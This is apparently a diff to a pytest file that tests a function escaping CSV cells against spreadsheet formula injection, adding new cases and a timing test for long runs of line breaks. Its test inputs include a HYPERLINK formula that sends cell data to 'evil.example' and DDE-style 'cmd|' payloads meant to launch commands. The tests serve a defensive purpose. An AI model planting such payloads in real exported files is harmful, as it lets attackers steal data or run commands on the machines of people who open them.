@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import time
 from collections.abc import AsyncIterator
 
 import pytest
@@ -34,14 +35,22 @@ def test_no_spreadsheet_runs_a_text_as_a_formula(start: str) -> None:
     [
         ('x;=HYPERLINK("http://evil.example/?"&A1)', 'x;\'=HYPERLINK("http://evil.example/?"&A1)'),
         ("x; +1;-cmd|' /C calc'!A0", "x; '+1;'-cmd|' /C calc'!A0"),
+        ("x;-@SUM(1);--1+cmd|'a'!A0; - 1+cmd|'a'!A0;-'S'!A1", "x;'-@SUM(1);'--1+cmd|'a'!A0; '- 1+cmd|'a'!A0;'-'S'!A1"),
+        ('x;"=1+1;y', "x;\"'=1+1;y"),
         ("two\n=1+1\r\n@SUM(A1)", "two\n'=1+1\r\n'@SUM(A1)"),
-        ("x;\uff1d1", "x;'\uff1d1"),
-        ("fine ;-) and a=b, 1-2", "fine ;-) and a=b, 1-2"),
+        ("x;\uff1d1;\uff0dcmd|'a'!A0", "x;'\uff1d1;'\uff0dcmd|'a'!A0"),
+        ("fine ;-) and a=b, 1-2; (sic)", "fine ;-) and a=b, 1-2; (sic)"),
         ("a list:\n- one\n- two", "a list:\n- one\n- two"),
     ],
 )
 def test_nor_where_it_takes_a_semicolon_or_a_line_for_the_end_of_a_cell(text: str, cell: str) -> None:
     assert csv_cell(text) == cell
+
+
+def test_a_text_of_line_breaks_is_read_once() -> None:
+    began = time.process_time()
+    assert csv_cell("a" + "\n" * 100_000 + "b") == "a" + "\n" * 100_000 + "b"
+    assert time.process_time() - began < 1.0, "read from each of them it would take minutes"
 
 
 def test_a_column_whose_name_is_taken_gets_the_next_free_one() -> None:
